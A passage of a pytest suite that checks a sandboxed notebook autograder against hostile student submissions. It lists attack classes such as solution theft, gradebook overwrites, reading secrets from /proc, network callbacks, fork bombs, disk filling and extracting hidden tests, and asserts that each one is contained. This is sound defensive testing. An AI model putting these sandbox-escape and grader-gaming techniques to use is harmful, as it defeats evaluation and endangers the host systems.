        texts = _readable_texts(path)
        hits = [needle for needle in needles if any(needle in text for text in texts)]
        if hits:
            found[str(path)] = hits
    return found


def _cell(root: Path, student: str, grade_id: str) -> nbformat.NotebookNode:
    notebook = cells.read(root / "autograded" / student / CHAPTER / f"{CHAPTER}.ipynb")
    return next(c for c in notebook.cells if cells.nbgrader_meta(c).get("grade_id") == grade_id)


def _printed(root: Path, student: str) -> str:
    """Everything the student's notebook printed, as recorded in its autograded notebook."""
    notebook = cells.read(root / "autograded" / student / CHAPTER / f"{CHAPTER}.ipynb")
    return "\n".join(
        "".join(o.get("text", ""))
        for c in notebook.cells
        if c.cell_type == "code"
        for o in c.get("outputs", [])
        if o.get("output_type") == "stream"
    )


def _message(root: Path, student: str, grade_id: str) -> str:
    outputs = _cell(root, student, grade_id).get("outputs", [])
    return "\n".join(f"{o.get('ename')}: {o.get('evalue')}" for o in outputs if o.get("output_type") == "error")


def _feedback(root: Path, student: str) -> str:
    return html.unescape((root / "feedback" / student / CHAPTER / f"{CHAPTER}.html").read_text(encoding="utf-8"))


def _line(run: subprocess.CompletedProcess, student: str) -> str:
    lines = [line for line in run.stdout.splitlines() if f"{student}_{CHAPTER}" in line]
    assert lines, f"no summary line for {student}:\n{run.stdout}\n{run.stderr[-3000:]}"
    return lines[0]


def _points(hostile: dict, student: str) -> tuple[float, float, float]:
    row = hostile["csv"][student]
    return (
        float(row["score"] or "nan"),
        float(row.get(f"{CHAPTER}:{LEDGER}") or "nan"),
        float(row.get(f"{CHAPTER}:{AUDIT}") or "nan"),
    )


class _Listener:
    """A TCP socket on 127.0.0.1 and an abstract unix socket on this machine, recording every connection."""

    def __init__(self):
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.abstract = "\0course-hostile-" + secrets.token_hex(8)
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind(self.abstract)
        self.unix.listen()
        self.accepted: list[str] = []
        self.stop = threading.Event()
        self.threads = [
            threading.Thread(target=self._serve, args=(server,), daemon=True) for server in (self.tcp, self.unix)
        ]

    @property
    def port(self) -> int:
        return self.tcp.getsockname()[1]

    def _serve(self, server: socket.socket) -> None:
        server.settimeout(0.2)
        while not self.stop.is_set():
            try:
                connection, address = server.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with connection:
                connection.settimeout(1)
                try:
                    data = connection.recv(200)
                except OSError:
                    data = b""
            self.accepted.append(f"{address!r}: {data!r}")

    def __enter__(self):
        for thread in self.threads:
            thread.start()
        return self

    def __exit__(self, *exc):
        self.stop.set()
        for thread in self.threads:
            thread.join(5)
        self.tcp.close()
        self.unix.close()


class _FreeSpace:
    """The lowest free space of a file system, sampled every 0.2 s while the block runs."""

    def __init__(self, path: Path):
        self.path, self.lowest = path, shutil.disk_usage(path).free
        self.before = self.lowest
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._sample, daemon=True)

    def _sample(self) -> None:
        while not self.stop.wait(0.2):
            self.lowest = min(self.lowest, shutil.disk_usage(self.path).free)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.stop.set()
        self.thread.join(5)
        self.after = shutil.disk_usage(self.path).free


def _host_planted() -> list[str]:
    """Files the planting submission may have left on this machine (its marker in the name)."""
    places = [PACKAGE, *map(Path, site.getsitepackages()), Path.home() / ".ipython", Path("/root/.ipython")]
    return sorted({str(p) for place in places if place.is_dir() for p in place.rglob(f"*{PLANTED}*")})


def _host_ipython() -> set[str]:
    return _names(Path.home() / ".ipython", Path("/root/.ipython"))


def _default_ipython_profile() -> None:
    """Create the default IPython profile, as the first kernel started on this machine does: `course check` in a
    parallel test starts one with the real HOME, and its profile must not read as something a submission planted."""
    from IPython.core.profiledir import ProfileDir
    from IPython.paths import get_ipython_dir

    ProfileDir.create_profile_dir_by_name(get_ipython_dir(), "default")


def _hidden_secrets(source: nbformat.NotebookNode, release: nbformat.NotebookNode) -> list[str]:
    """Every line of the hidden tests (between the markers) of >= 12 characters, stripped, that the release
    notebook (what the student has) does not show."""
    visible = "\n".join(cell.source for cell in release.cells)
    lines = []
    for _, _, text in cells.graded_cells(source):
        inside = False
        for line in text.splitlines():
            if "BEGIN HIDDEN TESTS" in line:
                inside = True
            elif "END HIDDEN TESTS" in line:
                inside = False
            elif inside and len(line.strip()) >= 12 and line.strip() not in visible:
                lines.append(line.strip())
    return list(dict.fromkeys(lines))


# --------------------------------------------------------------------------------------------------- the run
@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Build chapter 1, grade two honest students, then grade every hostile submission and a later honest student
    in one `course grade` run (2 workers, bubblewrap), watching this machine while it runs."""
    base = tmp_path_factory.mktemp("hostile")
    root = build.copy_course_skeleton(build.NOTEBOOKS_DIR, base / "course")
    build.build_course(root, only=[CHAPTER])
    shutil.copytree(root, base / "pristine")  # built, never graded: for the --sandbox none run
    source = cells.read(root / "source" / CHAPTER / f"{CHAPTER}.ipynb")
    release = cells.read(root / "release" / CHAPTER / f"{CHAPTER}.ipynb")
    solutions = cells.solution_cells(source)
    release_ledger = cells.solution_cells(release)["todo_ledger_from_roles"]
    imports = release_ledger.split("\ndef ledger_from_roles", 1)[0].rstrip()

    honest_inbox = base / "honest"
    for student in HONEST_EARLIER:
        _submission(release, solutions, honest_inbox / f"{student}_{CHAPTER}.ipynb")
    first = _course(
        "grade", str(honest_inbox), "--root", str(root), "--workers", "2", *TIMEOUTS, "--no-progress", cwd=base
    )
    assert first.returncode == 0, first.stdout + first.stderr[-3000:]

    course_files = [
        root / "chapters",
        root / "source",
        root / "release",
        root / "nbgrader_config.py",
        root / "course.json",
    ]
    _default_ipython_profile()
    before = {
        "course": _hashes(*course_files),
        "package": _hashes(PACKAGE, skip_pycache=True),
        "package_names": _names(PACKAGE),
        "honest_files": _honest_files(root, HONEST_EARLIER),
        "scores": _gradebook_scores(root),
        "csv": _rows(root / "grades.csv"),
        "site": _names(*map(Path, site.getsitepackages())),
        "ipython": _host_ipython(),
    }
    token = secrets.token_hex(16)
    honest_paths = sorted(before["honest_files"])
    hostile_inbox = base / "inbox"
    with _Listener() as listener:
        fill = {
            "@@GUESSES@@": json.dumps(
                [str(root / name) for name in ("gradebook.db", "grades.csv", "grading_log.json")]
            ),
            "@@PORT@@": str(listener.port),
            "@@ABSTRACT@@": repr(listener.abstract),
            "@@PLANTED@@": PLANTED,
        }
        written = {}
        for student, (top, body) in ATTACKS.items():
            top = top.replace("@@GUESSES@@", json.dumps(honest_paths)) if student == "others" else top
            for key, value in fill.items():
                top = top.replace(key, value)
            written[student] = _ledger_cell(imports, top, body)
            _submission(
                release,
                {**solutions, "todo_ledger_from_roles": written[student]},
                hostile_inbox / f"{student}_{CHAPTER}.ipynb",
            )
        for student, text in MARKDOWN_MARKERS.items():
            written[student] = _ledger_cell(imports, "", "")
            _submission(
                release,
                {**solutions, "todo_ledger_from_roles": written[student]},
                hostile_inbox / f"{student}_{CHAPTER}.ipynb",
                markdown=text,
            )
        _submission(release, solutions, hostile_inbox / f"{LATER}_{CHAPTER}.ipynb")
        planter = {
            "todo_ledger_from_roles": solutions["todo_ledger_from_roles"] + PLANTER_TAIL,
            "todo_audit_context_fit": cells.solution_cells(release)["todo_audit_context_fit"],
        }
        _submission(release, {**solutions, **planter}, hostile_inbox / f"{PLANTER}_{CHAPTER}.ipynb")
        honest_renamed = solutions["todo_ledger_from_roles"].replace("def ledger_from_roles(", "def _honest_ledger(")
        stasher = {
            "todo_ledger_from_roles": honest_renamed + STASHER_LEDGER_TAIL,
            "todo_audit_context_fit": STASHER_AUDIT,
        }
        _submission(release, {**solutions, **stasher}, hostile_inbox / f"{STASHER}_{CHAPTER}.ipynb")
        written[PLANTER] = planter["todo_ledger_from_roles"]  # checked, as the attacks are, to quote no hidden line
        written[STASHER] = "\n".join(stasher.values())
        env = dict(os.environ, COURSE_TEST_SECRET=token)
        with _FreeSpace(root) as free:
            started = time.monotonic()
            run = _course(
                "grade",
                str(hostile_inbox),
                "--root",
                str(root),
                "--workers",
                "2",
                *TIMEOUTS,
                "--no-progress",
                cwd=base,
                env=env,
            )
            seconds = time.monotonic() - started
        time.sleep(0.5)  # a connection accepted just before the end is recorded
    strays = _sandbox_processes()
    for _ in range(20):  # what the run's last sandbox leaves is gone within moments
        if not strays:
            break
        time.sleep(0.5)
        strays = _sandbox_processes()
    after = {
        "course": _hashes(*course_files),
        "package": _hashes(PACKAGE, skip_pycache=True),
        "package_names": _names(PACKAGE),
        "honest_files": _honest_files(root, HONEST_EARLIER),
        "scores": _gradebook_scores(root),
        "csv": _rows(root / "grades.csv"),
        "site": _names(*map(Path, site.getsitepackages())),
        "ipython": _host_ipython(),
    }
    planted = _host_planted()
    try:
        yield {
            "root": root,
            "base": base,
            "source": source,
            "release": release,
            "solutions": solutions,
            "first": first,
            "run": run,
            "seconds": seconds,
            "before": before,
            "after": after,
            "token": token,
            "accepted": list(listener.accepted),
            "free": free,
            "strays": strays,
            "planted": planted,
            "written": written,
            "csv": after["csv"],
            "honest_paths": honest_paths,
        }
    finally:
        for path in planted:  # never leave the course environment broken, whatever the sandbox let through
            target = Path(path)
            if target.is_file():
                target.unlink()


HOSTILE = sorted([*ATTACKS, *MARKDOWN_MARKERS])


# ------------------------------------------------------------------------------------ invariants of the run
@pytest.mark.slow
def test_the_run_grades_every_submission_and_exits_0(hostile):
    run = hostile["run"]
    assert run.returncode == 0, run.stdout + run.stderr[-3000:]
    assert f"graded {len(ATTACKS) + len(MARKDOWN_MARKERS) + 3}, failed 0, skipped 0" in run.stdout, run.stdout
    for student in [*ATTACKS, *MARKDOWN_MARKERS, LATER, PLANTER, STASHER, *HONEST_EARLIER]:
        assert hostile["csv"][student]["status"] == "graded", (student, hostile["csv"][student])


@pytest.mark.slow
@pytest.mark.parametrize("student", HOSTILE)
def test_each_hostile_submission_keeps_exactly_its_honest_points(hostile, student):
    assert _points(hostile, student) == (5.0, 0.0, 5.0), (hostile["csv"].get(student), _line(hostile["run"], student))
    assert hostile["csv"][student]["status"] == "graded"


@pytest.mark.slow
@pytest.mark.parametrize("student", ["markertodo", *MARKDOWN_MARKERS])
def test_a_stray_nbgrader_marker_is_graded_as_text_with_a_note(hostile, student):
    """The marker loses its meaning in the student's cell (ClearHiddenTests no longer refuses the notebook), the
    feedback says so, and the autograded notebook keeps the student's text around it."""
    assert "nbgrader's hidden-test markers" in hostile["csv"][student]["notes"], hostile["csv"][student]
    autograded = cells.read(hostile["root"] / "autograded" / student / CHAPTER / f"{CHAPTER}.ipynb")
    text = "\n".join(cell.source for cell in autograded.cells)
    assert "-HIDDEN TESTS" in text and "BEGIN HIDDEN TESTS" not in text and "END HIDDEN TESTS" not in text


@pytest.mark.slow
def test_a_later_honest_submission_in_the_same_run_gets_full_marks(hostile):
    assert _points(hostile, LATER) == (8.0, 3.0, 5.0), _line(hostile["run"], LATER)


@pytest.mark.slow
def test_the_honest_students_graded_before_are_untouched(hostile):
    before, after = hostile["before"], hostile["after"]
    assert before["honest_files"], "the earlier run left no files"
    assert after["honest_files"] == before["honest_files"]
    for student in HONEST_EARLIER:
        assert before["scores"][student] == after["scores"][student] == {LEDGER: 3.0, AUDIT: 5.0}
        assert after["csv"][student] == before["csv"][student]
    assert not [p for p in hostile["root"].rglob("planted_by_another_student*")]


@pytest.mark.slow
def test_course_files_and_the_installed_package_are_byte_identical(hostile):
    before, after = hostile["before"], hostile["after"]
    changed = sorted(set(before["course"].items()) ^ set(after["course"].items()))
    assert not changed, changed[:10]
    changed = sorted({path for path, _ in set(before["package"].items()) ^ set(after["package"].items())})
    assert not changed, [
        (path, time.ctime(os.stat(path).st_mtime) if os.path.exists(path) else "gone") for path in changed[:10]
    ]
    new = sorted(after["package_names"] - before["package_names"])
    assert not [name for name in new if "__pycache__" not in name or PLANTED in name], new


@pytest.mark.slow
def test_grades_csv_has_a_row_for_every_submission(hostile):
    assert set(hostile["csv"]) == {*ATTACKS, *MARKDOWN_MARKERS, LATER, PLANTER, STASHER, *HONEST_EARLIER}


@pytest.mark.slow
def test_no_sandbox_process_outlives_the_run(hostile):
    assert hostile["strays"] == []


# ------------------------------------------------------------------------------------------- class by class
@pytest.mark.slow
def test_solution_theft_finds_no_course_file(hostile):
    root = hostile["root"]
    printed = _printed(root, "theft")
    assert "THEFT " in printed, printed[:2000]  # the walk ran in the kernel
    found = json.loads(printed.split("THEFT ", 1)[1].splitlines()[0])
    assert found["solutions"] == [] and found["course"] == [], found
    message = _message(root, "theft", LEDGER)  # the walk ran again in the checker's student process
    assert message.startswith("RuntimeError: THEFT "), message
    found = json.loads(message.split("THEFT ", 1)[1])
    assert found["solutions"] == [] and found["course"] == [], found
    seen = "\n".join(
        [*_readable_texts(root / "autograded" / "theft" / CHAPTER / f"{CHAPTER}.ipynb"), _feedback(root, "theft")]
    )
    for secret in (str(root), str(hostile["base"]), str(hostile["base"].parent)):
        assert secret not in seen


@pytest.mark.slow
def test_gradebook_overwrite_changes_nothing(hostile):
    root = hostile["root"]
    with sqlite3.connect(root / "gradebook.db") as connection:
        assert connection.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    scores = _gradebook_scores(root)
    assert scores["gradebook"] == {LEDGER: 0.0, AUDIT: 5.0}
    assert {s: scores[s] for s in HONEST_EARLIER} == {s: hostile["before"]["scores"][s] for s in HONEST_EARLIER}
    exported = hostile["base"] / "export.csv"
    completed = subprocess.run(
        build.nbgrader_command("export", f"--to={exported}", course_root=root),
        cwd=root,
        env=build.interpreter_bin_on_path(),
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert completed.returncode == 0, completed.stdout[-2000:] + completed.stderr[-2000:]
    with open(exported, encoding="utf-8") as handle:
        students = {row["student_id"] for row in csv.DictReader(handle)}
    assert {*ATTACKS, *MARKDOWN_MARKERS, LATER, PLANTER, STASHER, *HONEST_EARLIER} <= students
    message = _message(root, "gradebook", LEDGER)  # what it did in the checker's student process
    assert message.startswith("RuntimeError: VANDAL ") and "overwrote" not in message and "/proc/" not in message, (
        message
    )


@pytest.mark.slow
def test_the_kernel_cannot_write_into_the_graders_result_channel(hostile):
    """The gradebook attack also writes a forged line to its kernel's own stdout: the kernel run's result (its
    outputs) must still reach the grader, and no descriptor of another process opens."""
    printed = _printed(hostile["root"], "gradebook")
    assert "VANDAL " in printed, _line(hostile["run"], "gradebook")
    done = json.loads(printed.split("VANDAL ", 1)[1].splitlines()[0])
    assert not [entry for entry in done if "overwrote" in entry or "/proc/" in entry], done


@pytest.mark.slow
def test_another_students_files_are_neither_read_nor_changed(hostile):
    root = hostile["root"]
    message = _message(root, "others", LEDGER)
    assert message == "RuntimeError: RAID {}", message
    printed = _printed(root, "others")
    assert "RAID {}" in printed, printed[:2000]
    assert hostile["after"]["honest_files"] == hostile["before"]["honest_files"]


@pytest.mark.slow
def test_the_graders_secrets_reach_no_file_and_no_output(hostile):
    root, token, run = hostile["root"], hostile["token"], hostile["run"]
    printed = _printed(root, "secrets")
    assert "SECRET TEXTS" in printed and "/proc/" in printed, printed[:2000]  # it did look
    assert "SECRETS " in _message(root, "secrets", LEDGER)
    holding = [str(p) for p in hostile["base"].rglob("*") if p.is_file() and token.encode() in p.read_bytes()]
    assert holding == []
    assert token not in run.stdout and token not in run.stderr


@pytest.mark.slow
def test_no_connection_reaches_this_machine(hostile):
    assert hostile["accepted"] == []
    printed = _printed(hostile["root"], "network")
    assert "NETWORK " in printed and "connected" not in printed.split("NETWORK ", 1)[1].splitlines()[0], printed[:2000]
    message = _message(hostile["root"], "network", LEDGER)
    assert "NETWORK " in message and '"connected"' not in message, message


@pytest.mark.slow
def test_nothing_is_planted_on_this_machine_and_later_kernels_work(hostile):
    assert hostile["planted"] == []
    assert hostile["after"]["site"] == hostile["before"]["site"]
    assert hostile["after"]["ipython"] == hostile["before"]["ipython"]
    printed = _printed(hostile["root"], "planting")
    assert "PLANT " in printed and "WRITTEN" not in printed, printed[:3000]
    assert "Read-only file system" in printed, printed[:3000]
    message = _message(hostile["root"], "planting", LEDGER)  # in the checker's student process
    assert message.startswith("RuntimeError: PLANT ") and "WRITTEN" not in message, message
    assert _points(hostile, LATER) == (8.0, 3.0, 5.0)


@pytest.mark.slow
def test_killing_the_parent_and_exiting_cost_only_the_cell(hostile):
    assert _points(hostile, "killer") == (5.0, 0.0, 5.0)
    assert _message(hostile["root"], "killer", LEDGER), "the cell failed without a message"


@pytest.mark.slow
def test_the_checkers_limits_scheduling_and_signals_are_out_of_reach(hostile):
    """Issue 33: the task limit set to 1 on the checker made every later student process fail to start, and the
    submission "needs regrading" at every run. Each attempt is refused now (seccomp, Landlock's signal scope), and
    the submission earns its honest points (the test above)."""
    message = _message(hostile["root"], "dodger", LEDGER)
    assert message.startswith("RuntimeError: DODGE "), message
    outcomes = json.loads(message.split("DODGE ", 1)[1])
    assert len(outcomes) >= 5 and set(outcomes.values()) == {"Operation not permitted"}, outcomes


@pytest.mark.slow
def test_the_notebooks_kernel_cannot_touch_the_checker_nor_leave_anything_to_the_checks(hostile):
    """The kernel, forked from the checker in its sandbox, is confined as a student process: every dodge on the
    checker is refused; the busy process and the files it left are gone before the TODO function is called."""
    printed = _printed(hostile["root"], "kerneldodger")
    assert "KERNEL-DODGE " in printed, printed[-2000:]
    outcomes = json.loads(printed.split("KERNEL-DODGE ", 1)[1].splitlines()[0])
    assert len(outcomes) >= 5 and set(outcomes.values()) == {"Operation not permitted"}, outcomes
    message = _message(hostile["root"], "kerneldodger", LEDGER)
    assert message.startswith("RuntimeError: LEFT "), message
    assert json.loads(message.split("LEFT ", 1)[1]) == {"files": [], "busy": []}, message


@pytest.mark.slow
def test_a_fork_bomb_is_bounded_and_leaves_nothing_behind(hostile):
    assert _points(hostile, "forkbomb") == (5.0, 0.0, 5.0)
    assert hostile["strays"] == []


@pytest.mark.slow
def test_a_memory_hog_fails_alone(hostile):
    assert _points(hostile, "memhog") == (5.0, 0.0, 5.0)


@pytest.mark.slow
def test_a_disk_filler_fills_its_own_scratch_only(hostile):
    # A filler that reached this disk would take 1 GiB from it (its file-size limit) in the first folder it reached;
    # the tests running beside this one on the same disk (a second pytest worker, a build) take up to a few hundred
    # MB while it runs: 184 MB was seen, which failed the 100 MB this bound used to be.
    free, bound = hostile["free"], 512 * 2**20
    assert free.before - free.lowest < bound, (free.before, free.lowest)
    assert abs(free.before - free.after) < bound, (free.before, free.after)
    printed = _printed(hostile["root"], "diskfill")
    assert "FILLED " in printed, printed[:2000]
    report = json.loads(printed.split("FILLED ", 1)[1].splitlines()[0])
    # at most the sandbox's tmpfs: the scratch (1 GiB), /tmp (1 GiB) and /dev/shm (64 MiB)
    assert sum(megabytes for _, megabytes, _ in report) <= 2 * 1024 + 64 + 16, report
    assert [megabytes for folder, megabytes, _ in report if folder in ("/", "/home")] == [0, 0], report


@pytest.mark.slow
def test_endless_output_is_cut(hostile):
    root = hostile["root"]
    assert "output over 100,000 characters was cut" in _line(hostile["run"], "flood")
    path = root / "autograded" / "flood" / CHAPTER / f"{CHAPTER}.ipynb"
    assert path.stat().st_size < 1_000_000, path.stat().st_size
    assert (root / "feedback" / "flood" / CHAPTER / f"{CHAPTER}.html").stat().st_size < 200_000


@pytest.mark.slow
def test_an_endless_loop_costs_only_its_cell(hostile):
    assert _points(hostile, "loop") == (5.0, 0.0, 5.0)
    message = _message(hostile["root"], "loop", LEDGER)
    assert "20 s" in message, message


@pytest.mark.slow
def test_switching_off_the_checks_changes_nothing(hostile):
    root = hostile["root"]
    assert _points(hostile, "helpers") == _points(hostile, "helperscontrol") == (5.0, 0.0, 5.0)
    assert _message(root, "helpers", LEDGER) == _message(root, "helperscontrol", LEDGER)
    assert "flagged for review" in _line(hostile["run"], "helpers")


@pytest.mark.slow
def test_the_library_switched_off_cannot_be_rebuilt(hostile):
    """Reloading its module, compiling its source or bytecode, or calling the grader's copy of its code: each
    fails in the student's process (the library's code is unreadable there, the grader's copy forgotten)."""
    root = hostile["root"]
    for student in ("reload", "source", "originals", "grabtop"):
        assert _points(hostile, student) == (5.0, 0.0, 5.0), (student, _message(root, student, LEDGER))
    assert "Permission denied" in _message(root, "reload", LEDGER), _message(root, "reload", LEDGER)
    assert "Permission denied" in _message(root, "source", LEDGER), _message(root, "source", LEDGER)
    assert "KeyError" in _message(root, "originals", LEDGER), _message(root, "originals", LEDGER)
    for student in ("reload", "source", "originals"):  # and a person is asked to read them
        assert "flagged for review" in _line(hostile["run"], student), _line(hostile["run"], student)


@pytest.mark.slow
def test_nothing_a_process_for_one_function_leaves_reaches_the_next(hostile):
    """The library's audit_context_fit is on in the process that runs ledger_from_roles; its code stashed in the
    room or /dev/shm (in a folder made read-only), a System V segment, the user or the persistent keyring is gone before
    audit_context_fit's own process starts: the unsolved audit earns nothing."""
    assert _points(hostile, STASHER) == (3.0, 3.0, 0.0), _line(hostile["run"], STASHER)
    assert "no stash" in _message(hostile["root"], STASHER, AUDIT), _message(hostile["root"], STASHER, AUDIT)


@pytest.mark.slow
def test_a_module_planted_for_the_checker_is_never_imported(hostile):
    """The honest ledger keeps its 3 points and the unsolved audit earns nothing: what the student's process
    wrote is not on the checker's path, nor in the folders the checker works in."""
    assert _points(hostile, PLANTER) == (3.0, 3.0, 0.0), _line(hostile["run"], PLANTER)


@pytest.mark.slow
def test_patching_torch_numpy_and_builtins_changes_nothing(hostile):
    assert _points(hostile, "patcher") == (5.0, 0.0, 5.0)


def _assert_no_hidden_text(hostile, folders: list[Path]) -> None:
    secrets_ = _hidden_secrets(hostile["source"], hostile["release"])
    assert len(secrets_) >= 12, secrets_
    written = "\n".join(hostile["written"].values())
    assert not [s for s in secrets_ if s in written], "a hostile cell quotes a hidden line itself"
    leaks = {}
    for folder in folders:
        leaks.update(_leaks(folder, secrets_))
    assert not leaks, json.dumps(leaks, indent=1)[:4000]
    run = hostile["run"]
    assert not [s for s in secrets_ if s in run.stdout or s[:MIN_PREFIX] in run.stdout]
    assert "HIDDEN TESTS" not in run.stdout


@pytest.mark.slow
def test_hooks_on_later_cells_show_no_hidden_test(hostile):
    root = hostile["root"]
    printed = _printed(root, "hooks")
    assert "HOOK pre_run_cell" in printed and "HOOK input transformer" in printed, printed[:2000]
    nbgrader_pages = "feedback_nbgrader"
    completed = subprocess.run(
        build.nbgrader_command(
            "generate_feedback",
            CHAPTER,
            "--force",
            f"--CourseDirectory.feedback_directory={nbgrader_pages}",
            course_root=root,
        ),
        cwd=root,
        env=build.interpreter_bin_on_path(),
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert completed.returncode == 0, completed.stdout[-3000:] + completed.stderr[-3000:]
    pages = list((root / nbgrader_pages).glob(f"*/{CHAPTER}/*.html"))
    assert {p.parent.parent.name for p in pages} >= {"hooks", "digraise", "digreturn"}, pages
    _assert_no_hidden_text(hostile, [root / "autograded", root / "feedback", root / nbgrader_pages])


@pytest.mark.slow
def test_hidden_tests_dug_out_of_memory_reach_no_feedback(hostile):
    root = hostile["root"]
    for student in ("digraise", "digreturn"):
        assert _points(hostile, student) == (5.0, 0.0, 5.0)
    assert _message(root, "digraise", LEDGER).startswith("ValueError: DUG "), _message(root, "digraise", LEDGER)
    _assert_no_hidden_text(hostile, [root / "autograded", root / "feedback"])


# ------------------------------------------------------------------------------------------- refusals, warnings
@pytest.mark.slow
def test_sandbox_none_warns_and_says_so_on_every_row(hostile, tmp_path):
    root = shutil.copytree(hostile["base"] / "pristine", tmp_path / "course")
    inbox = tmp_path / "inbox"
    _submission(hostile["release"], hostile["solutions"], inbox / f"trusted_{CHAPTER}.ipynb")
    run = _course(
        "grade",
        str(inbox),
        "--root",
        str(root),
        "--sandbox",
        "none",
        "--workers",
        "1",
        *TIMEOUTS,
        "--no-progress",
        cwd=tmp_path,
    )
    assert run.returncode == 0, run.stdout + run.stderr[-3000:]
    assert "WARNING: --sandbox none" in run.stderr
    rows = _rows(root / "grades.csv")
    assert set(rows) == {"trusted"} and rows["trusted"]["score"] == "8.0", rows
    assert all("--sandbox none" in row["notes"] for row in rows.values()), rows


def test_without_bwrap_course_grade_refuses_in_one_line_and_grades_nothing(tmp_path):
    root = build.copy_course_skeleton(build.NOTEBOOKS_DIR, tmp_path / "course")
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / f"someone_{CHAPTER}.ipynb").write_text(nbformat.writes(nbformat.v4.new_notebook()), encoding="utf-8")
    before = _hashes(root)
    no_bwrap = tmp_path / "bin"  # a PATH with this interpreter's tools and nothing else
    no_bwrap.mkdir()
    env = dict(os.environ, PATH=str(no_bwrap))
    assert shutil.which("bwrap", path=env["PATH"]) is None
    run = _course("grade", str(inbox), "--root", str(root), "--no-progress", cwd=tmp_path, env=env)
    assert run.returncode == 2, run.stdout + run.stderr[-3000:]
    lines = [line for line in run.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, run.stderr
    assert "apt-get install bubblewrap" in lines[0] and "--sandbox none" in lines[0], lines[0]
    assert re.search(r"\bbwrap\b", lines[0]), lines[0]
    assert _hashes(root) == before
    assert not [
        name for name in ("gradebook.db", "submitted", "autograded", "feedback", "grades.csv") if (root / name).exists()
    ]
